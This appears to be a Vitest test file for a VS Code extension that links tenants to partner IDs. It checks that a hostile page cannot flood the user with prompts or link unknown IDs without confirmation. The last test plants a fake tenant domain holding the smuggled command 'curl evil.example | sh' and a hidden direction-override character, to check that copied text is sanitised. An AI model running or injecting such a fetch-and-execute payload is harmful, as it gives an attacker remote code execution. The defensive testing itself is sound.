import { beforeEach, describe, expect, it, vi } from "vitest";
import { LinkStore } from "../../../src/links/linkStore.ts";
import type { ChangePlan, RunId } from "../../../src/model/change.ts";
import type { RunRecord } from "../../../src/model/journal.ts";
import { type Row, rowId } from "../../../src/model/row.ts";
import { NoteOffers } from "../../../src/ui/noteOffers.ts";
import { PageActs } from "../../../src/ui/pageActs.ts";
import type { PageParts } from "../../../src/ui/pageParts.ts";
import { PageTurns } from "../../../src/ui/pageTurns.ts";
import type { HostMessage, PageMessage } from "../../../src/ui/protocol.ts";
import { alice, tenant, TestClock, TestLog } from "../testing/fixtures.ts";

const ours = "4567890";
const tenants = 50;

/** What VS Code was asked to show, each until the person answers. */
const vscode = vi.hoisted(() => ({ questions: [] as { what: string; answer: (value?: unknown) => void }[] }));

function ask(what: string): (first?: unknown) => Promise<unknown> {
  return (first) =>
    new Promise((answer) => {
      vscode.questions.push({ what: typeof first === "string" ? `${what} ${first}` : what, answer });
    });
}

vi.mock("vscode", async () => {
  const { anyVscode } = await import("../testing/anyVscode.ts");
  return anyVscode({
    l10n: {
      t: (text: string, ...given: unknown[]) => text.replace(/\{(\d)\}/g, (_, n) => String(given[Number(n)])),
    },
    workspace: { workspaceFolders: [{ uri: { fsPath: "/home/alice" } }] },
    env: { clipboard: { writeText: ask("copied") } },
    window: { showWarningMessage: ask("modal"), showSaveDialog: ask("save") },
    commands: { executeCommand: ask("command") },
  });
});
vi.mock("../../../src/platform/ownPartnerIds.ts", () => ({ readOwnPartnerIds: () => [{ partnerId: ours }] }));
const workspace = vi.hoisted(() => ({ told: 0 }));
vi.mock("../../../src/ui/tellWorkspaceSettings.ts", () => ({
  tellOfWorkspaceSettings: () => (workspace.told += 1),
}));

type Ask = Parameters<PageActs["run"]>[0];

/** A page's acts, and what it was told. */
class HostilePage {
  readonly told: Extract<HostMessage, { type: "told" }>[] = [];
  readonly #acts: PageActs;
  #seq = 0;

  constructor(parts: PageParts) {
    this.#acts = new PageActs(parts, (message) => {
      if (message.type === "told") {
        this.told.push(message);
      }
    });
    this.#acts.pageIsNew();
  }

  say(ask: Record<string, unknown>): number {
    this.#seq += 1;
    this.#acts.run({ ...ask, seq: this.#seq } as unknown as Ask & PageMessage);
    return this.#seq;
  }

  link(row: string, partnerId: string): number {
    return this.say({ type: "write", verb: "link", row, partnerId });
  }
}

let rows: readonly Row["id"][];
let runs: RunRecord[];
let plans: ChangePlan[];
let ends: (() => void)[];
let parts: PageParts;
let page: HostilePage;
/** What changes do while they run. */
let meanwhile: (options: Parameters<PageParts["changes"]["run"]>[1]) => Promise<unknown>;

const settle = (): Promise<void> => new Promise((resolve) => setImmediate(resolve));

beforeEach(() => {
  vscode.questions.length = 0;
  rows = Array.from({ length: tenants }, (_, n) => rowId(alice.id, tenant(n + 1).tenantId));
  runs = [];
  plans = [];
  ends = [];
  meanwhile = () => new Promise<void>((end) => ends.push(end));
  const store = new LinkStore(new TestClock());
  store.setIdentities("vscode", [alice]);
  store.setTenants(
    alice.id,
    rows.map((_, n) => tenant(n + 1)),
  );
  parts = {
    store,
    log: new TestLog(),
    journal: { runs },
    ours: () => new Set([ours]),
    gate: {
      interactive: () =>
        new Promise((_, reject) => vscode.questions.push({ what: "sign-in", answer: reject })),
    },
    changes: {
      run: async (plan: ChangePlan, options: Parameters<PageParts["changes"]["run"]>[1]) => {
        plans.push(plan);
        await meanwhile(options);
        return { runId: `run-${plans.length}` as RunId, results: [{ kind: "nothingToDo" }] };
      },
    },
    turns: new PageTurns(),
  } as unknown as PageParts;
  page = new HostilePage(parts);
});

/** Asks for the portal, answers what is asked, and lets two seconds go by. Gives what was asked. */
async function portal(answer: (asked: string) => unknown): Promise<string[]> {
  vscode.questions.length = 0;
  page.say({ type: "openInPortal", row: rows[0] });
  await settle();
  for (let n = 0; n < vscode.questions.length; n += 1) {
    const question = vscode.questions[n];
    question?.answer(answer(question.what));
    await settle();
  }
  vi.advanceTimersByTime(2000);
  return vscode.questions.map(({ what }) => what.split(" ")[0] ?? "");
}

const linked = (): string[] => plans.map(({ steps }) => `${steps[0]?.tenantId} ${steps[0]?.wanted}`);

describe("A page that asks for many things at once", () => {
  it("links no tenant to an ID of its own without a question, and puts one question", async () => {
    workspace.told = 0;
    rows.forEach((row) => page.link(row, "6666666"));
    await settle();
    expect(workspace.told).toBe(1);
    expect(plans).toEqual([]);
    expect(vscode.questions.map(({ what }) => what)).toHaveLength(1);
    expect(vscode.questions[0]?.what).toMatch(/^modal Link 6666666 in /);
    expect(page.told).toHaveLength(tenants - 1);
    expect(new Set(page.told.map(({ how }) => how))).toEqual(new Set(["stopped"]));
    vscode.questions[0]?.answer(undefined);
    await settle();
    expect(plans).toEqual([]);
    expect(page.told.at(-1)).toMatchObject({ how: "cancelled" });
  });

  it("links one tenant to an offered ID, and the next one without a question when that has ended", async () => {
    rows.forEach((row) => page.link(row, ours));
    await settle();
    expect(linked()).toEqual([`${tenant(1).tenantId} ${ours}`]);
    expect(vscode.questions).toHaveLength(1); // about the second
    vscode.questions[0]?.answer(undefined);
    ends[0]?.();
    await settle();
    page.link(rows[2] ?? "", ours);
    await settle();
    expect(linked()).toHaveLength(2);
    expect(vscode.questions).toHaveLength(1);
  });

  it("links to an ID that was linked before from here without a question, and to one that somebody else linked with one", async () => {
    const step = { identityId: alice.id, tenantId: tenant(9).tenantId, from: null, wanted: "5012345" };
    runs.push({
      runId: "run" as RunId,
      startedAt: 1,
      plan: { purpose: "link", steps: [step] },
      steps: [{ step, state: "changed", before: null, after: "5012345" }],
    } as unknown as RunRecord);
    const check = parts.store.begin(rows[5] as Row["id"], "check");
    check?.learn({ kind: "linked", link: { partnerId: "7777777" }, at: 1 });
    check?.end();
    page.link(rows[0] ?? "", "5012345");
    page.link(rows[1] ?? "", "7777777");
    await settle();
    expect(linked()).toEqual([`${tenant(1).tenantId} 5012345`]);
    expect(vscode.questions).toHaveLength(1);
  });

  it("links to an ID of its own once the person agreed to the very one", async () => {
    page.link(rows[0] ?? "", "12345678901234");
    page.link(rows[1] ?? "", "12345678901234");
    await settle();
    vscode.questions[0]?.answer("Link");
    await settle();
    expect(linked()).toEqual([`${tenant(1).tenantId} 12345678901234`]);
  });

  it.each([
    ["the choice of a file", { type: "export", format: "csv", columns: ["tenant"] }],
    ["a sign-in", { type: "signIn" }],
    ["the portal", { type: "openInPortal" }],
    ["an explanation", { type: "explainPartnerIds" }],
    ["a removal", { type: "remove" }],
    ["a change", { type: "write", verb: "update", partnerId: ours }],
  ])("is answered that a question is open, whatever the first was: %s", async (_what, ask) => {
    page.say({ ...ask, row: rows[0], rows: [rows[0]] });
    const all = [
      { type: "export", format: "csv", columns: ["tenant"], rows },
      { type: "signIn", row: rows[1] },
      { type: "openInPortal", row: rows[1] },
      { type: "explainPartnerIds" },
      { type: "remove", row: rows[1] },
      { type: "write", verb: "update", row: rows[1], partnerId: ours },
      { type: "write", verb: "link", row: rows[1], partnerId: "6666666" },
    ];
    const other = new HostilePage(parts); // two pages are no way round it
    for (let n = 0; n < 20; n += 1) {
      all.forEach((one) => (n % 2 === 0 ? page : other).say(one));
    }
    await settle();
    expect(vscode.questions).toHaveLength(1);
    expect(plans).toEqual([]);
    vscode.questions[0]?.answer(undefined);
    await settle();
    page.say({ type: "explainPartnerIds" });
    await settle();
    expect(vscode.questions).toHaveLength(2);
  });

  it("opens the portal once, not once more at once", async () => {
    page.say({ type: "openInPortal", row: rows[0] });
    vscode.questions[0]?.answer(undefined); // VS Code asks nothing if the portal is trusted
    await settle();
    page.say({ type: "openInPortal", row: rows[1] });
    await settle();
    expect(vscode.questions).toHaveLength(1);
  });

  it("opens the portal once more within a minute only if the person agrees", async () => {
    vi.useFakeTimers({ toFake: ["setTimeout", "performance"] });
    try {
      expect(await portal(() => undefined)).toEqual(["command"]);
      expect(await portal(() => undefined)).toEqual(["modal"]);
      expect(page.told.at(-1)).toMatchObject({ how: "cancelled" });
      expect(await portal((asked) => (asked.startsWith("modal") ? "Open" : undefined))).toEqual([
        "modal",
        "command",
      ]);
      vi.advanceTimersByTime(57_000);
      expect(await portal(() => undefined)).toEqual(["modal"]);
      vi.advanceTimersByTime(60_000);
      expect(await portal(() => undefined)).toEqual(["command"]);
    } finally {
      vi.useRealTimers();
    }
  });

  it("puts no offered question while another one is open, and what it brings about by itself is no answer", async () => {
    const offers = new NoteOffers(parts.turns.questions, parts.log);
    const others = new NoteOffers(parts.turns.questions, parts.log);
    const signIn = offers.offer("signIn", alice.id).number;
    const refresh = offers.offer("refresh").number;
    const add = others.offer("addIdentity").number;
    for (let n = 0; n < 20; n += 1) {
      void offers.run(signIn);
      void offers.run(refresh);
      void others.run(add);
      page.say({ type: "remove", row: rows[0] });
      parts.store.setListing(alice.id, { kind: n % 2 === 0 ? "listing" : "listed" });
    }
    await settle();
    expect(vscode.questions.map(({ what }) => what)).toEqual([
      "command partnerAdminLink.signIn",
      "command partnerAdminLink.refresh",
    ]);
  });

  it("has changes that need a sign-in ask one after the other, and not at all once they were cancelled", async () => {
    const { promise: bothRun, resolve: goOn } = Promise.withResolvers<void>();
    meanwhile = async ({ signIn }) => {
      await bothRun;
      await signIn(plans[0]?.steps[0] as never, alice, undefined).catch(() => undefined);
    };
    const first = page.link(rows[0] ?? "", ours);
    const second = page.link(rows[1] ?? "", "6666666");
    await settle();
    vscode.questions.find(({ what }) => what.startsWith("modal"))?.answer("Link");
    await settle();
    goOn();
    await settle();
    const signIns = (): number => vscode.questions.filter(({ what }) => what === "sign-in").length;
    expect([plans.length, signIns()]).toEqual([2, 1]);
    page.say({ type: "cancel", act: second });
    vscode.questions.find(({ what }) => what === "sign-in")?.answer(new Error("closed"));
    await settle();
    expect(signIns()).toBe(1);
    expect(new Set(page.told.map(({ act }) => act))).toEqual(new Set([first, second]));
  });
});

describe("What a page copies", () => {
  it("is one line without anything that cannot be seen, whatever was remembered", async () => {
    const hostile = { ...tenant(1), defaultDomain: "contoso.com\ncurl evil.example | sh\n\u202e" };
    parts.store.setTenants(alice.id, [hostile]);
    page.say({ type: "copy", row: rows[0], what: "domain" });
    await settle();
    expect(vscode.questions.map(({ what }) => what)).toEqual(["copied contoso.com curl evil.example | sh"]);
  });
});
